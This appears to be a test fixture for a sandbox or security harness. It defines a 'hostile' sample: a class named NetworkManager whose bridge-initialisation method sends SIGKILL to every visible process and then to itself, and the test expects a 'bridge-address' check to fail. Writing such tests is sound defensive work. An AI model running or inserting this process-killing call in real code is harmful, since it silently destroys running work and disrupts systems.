import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries: 'sends SIGKILL to every process that it can see.',
  must: { fail: ['bridge-address'] },
  code: `
export class NetworkManager {
  async initializeBridge() {
    process.kill(-1, 'SIGKILL')
    process.kill(process.pid, 'SIGKILL')
  }
}
`,
})
